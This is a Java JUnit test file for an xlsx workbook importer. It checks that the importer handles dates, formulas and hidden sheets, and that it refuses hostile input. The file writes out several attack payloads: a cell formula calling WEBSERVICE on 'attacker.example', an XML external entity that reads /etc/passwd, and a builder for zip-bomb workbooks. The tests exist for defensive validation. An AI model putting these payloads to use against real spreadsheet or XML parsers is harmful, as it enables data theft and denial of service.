package org.entente.interop.table;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDate;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.SheetVisibility;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.entente.interop.FileInput;
import org.entente.interop.Told;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;

/** Workbooks, honest and hostile. */
class WorkbookTest {

    private static byte[] bytes(XSSFWorkbook workbook) throws IOException {
        var out = new ByteArrayOutputStream();
        workbook.write(out);
        return out.toByteArray();
    }

    private static byte[] persons() throws IOException {
        try (var workbook = new XSSFWorkbook()) {
            var sheet = workbook.createSheet("People");
            var heading = sheet.createRow(0);
            heading.createCell(0).setCellValue("Full name");
            heading.createCell(1).setCellValue("Date of birth");
            heading.createCell(2).setCellValue("Height");
            heading.createCell(3).setCellValue("Sum");
            var date = workbook.createCellStyle();
            date.setDataFormat(workbook.createDataFormat().getFormat("dd/mm/yyyy"));
            var row = sheet.createRow(1);
            row.createCell(0).setCellValue("Samira Nasser سميرة");
            var born = row.createCell(1);
            born.setCellValue(LocalDate.of(1984, 3, 12));
            born.setCellStyle(date);
            row.createCell(2).setCellValue(0.1 + 0.2);
            row.createCell(3).setCellFormula("C2*10");
            workbook.getCreationHelper().createFormulaEvaluator().evaluateAll();
            var evil = sheet.createRow(3);
            evil.createCell(0).setCellValue("Petr Ilyin");
            evil.createCell(3).setCellFormula("WEBSERVICE(\"http://attacker.example/\")");
            workbook.createSheet("Notes").createRow(0).createCell(0).setCellValue("x");
            workbook.createSheet("Secret");
            workbook.setSheetVisibility(2, SheetVisibility.VERY_HIDDEN);
            return bytes(workbook);
        }
    }

    @Test
    void readsTypesDatesNumbersAndStoredFormulaValues() throws IOException {
        var taken = Taken.from(FileInput.of("people.xlsx", persons()), null);

        assertThat(taken.refused).isEmpty();
        assertThat(taken.types()).containsEntry("person", 2).hasSize(1);
        assertThat(taken.values("birth.date")).containsExactly("1984-03-12");
        assertThat(taken.values("table.height")).containsExactly("0.3");
        assertThat(taken.values("amount")).first().isEqualTo("3");
        assertThat(taken.objects)
                .extracting(object -> Told.words(object.where()))
                .containsExactly("People, row 2", "People, row 4");
        assertThat(taken.warnings)
                .anyMatch(problem -> problem.why().contains("hidden sheets: Secret"))
                .anyMatch(problem -> problem.why().contains("Others: Notes"));
    }

    @Test
    void readsAChosenSheetAndSaysWhenThereIsNone() throws IOException {
        var choice = new TableChoice(null, null, "Nowhere", null, null, java.util.Set.of());

        var preview = TableProbe.look(FileInput.of("people.xlsx", persons()), choice);

        assertThat(preview.problems())
                .singleElement()
                .satisfies(p -> assertThat(Told.of(p).why()).contains("no sheet of that name"));
    }

    @Test
    void refusesAnOldWorkbookByName() {
        byte[] old = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        var taken = Taken.from(FileInput.of("old.xls", old), null);
        assertThat(taken.refused)
                .singleElement()
                .satisfies(p -> assertThat(p.why()).contains(".xlsx"));
    }

    /** A workbook whose sheet is replaced by {@code megabytes} of the same character. */
    private static Path bomb(Path folder, String part, int megabytes) throws IOException {
        var file = folder.resolve("bomb.xlsx");
        try (var zip = new ZipOutputStream(Files.newOutputStream(file));
                var in = new java.util.zip.ZipInputStream(new java.io.ByteArrayInputStream(persons()))) {
            for (var entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                zip.putNextEntry(new ZipEntry(entry.getName()));
                byte[] content = in.readAllBytes();
                if (entry.getName().endsWith(part)) {
                    String start = new String(content, StandardCharsets.UTF_8);
                    zip.write(start.substring(0, start.lastIndexOf("</")).getBytes(StandardCharsets.UTF_8));
                    byte[] block = " ".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
                    for (int i = 0; i < megabytes; i++) {
                        zip.write(block);
                    }
                    zip.write(start.substring(start.lastIndexOf("</")).getBytes(StandardCharsets.UTF_8));
                } else {
                    zip.write(content);
                }
                zip.closeEntry();
            }
        }
        return file;
    }

    @org.junit.jupiter.params.ParameterizedTest(name = "{0}")
    @org.junit.jupiter.params.provider.ValueSource(
            strings = {"sheet1.xml", "sharedStrings.xml", "styles.xml", "workbook.xml"})
    void refusesWhatUnpacksToFarMore(String part, @org.junit.jupiter.api.io.TempDir Path folder) throws IOException {
        var file = bomb(folder, part, part.equals("sheet1.xml") ? 1024 : 128);
        long start = System.nanoTime();

        var taken = Taken.from(file, null);

        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(2));
        assertThat(taken.refused).isNotEmpty();
        assertThat(taken.refused.getFirst().why()).doesNotContain("Exception");
    }

    @Test
    void refusesArchivesThatAreNoWorkbooks() throws IOException {
        for (String folder : new String[] {"zip-must-fail", "zip-must-read"}) {
            var path = Path.of("../shared/data/bad-input", folder);
            Assumptions.assumeTrue(Files.isDirectory(path), "the shared data is not here");
            try (var files = Files.list(path)) {
                for (var file : files.toList()) {
                    long start = System.nanoTime();
                    var taken = Taken.from(FileInput.of("renamed.xlsx", Files.readAllBytes(file)), null);
                    assertThat(taken.objects).as(file.toString()).isEmpty();
                    assertThat(taken.refused).as(file.toString()).isNotEmpty();
                    assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(2));
                }
            }
        }
    }

    @Test
    void refusesAWorkbookWithEntities() throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out);
                var in = new java.util.zip.ZipInputStream(new java.io.ByteArrayInputStream(persons()))) {
            for (var entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                zip.putNextEntry(new ZipEntry(entry.getName()));
                String content = new String(in.readAllBytes(), StandardCharsets.UTF_8);
                String evil = content.replaceFirst(
                        "(<\\?xml[^>]*\\?>)?",
                        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>");
                zip.write((entry.getName().contains("sheet1") ? evil : content).getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        }
        var taken = Taken.from(FileInput.of("evil.xlsx", out.toByteArray()), null);
        assertThat(taken.objects).isEmpty();
        assertThat(taken.refused).isNotEmpty();
    }

    @org.junit.jupiter.params.ParameterizedTest(name = "seed {0}")
    @org.junit.jupiter.params.provider.MethodSource("seeds")
    void neverFailsOnDamage(long seed) throws IOException {
        var random = new java.util.SplittableRandom(seed);
        byte[] damaged = persons();
        for (int i = random.nextInt(1, 20); i > 0; i--) {
            damaged[random.nextInt(damaged.length)] = (byte) random.nextInt();
        }
        var taken = Taken.from(FileInput.of("damaged.xlsx", damaged), null);
        assertThat(taken.objects.size() + taken.refused.size() + taken.warnings.size())
                .isPositive();
    }

    static java.util.stream.LongStream seeds() {
        return java.util.stream.LongStream.range(0, 40);
    }
}
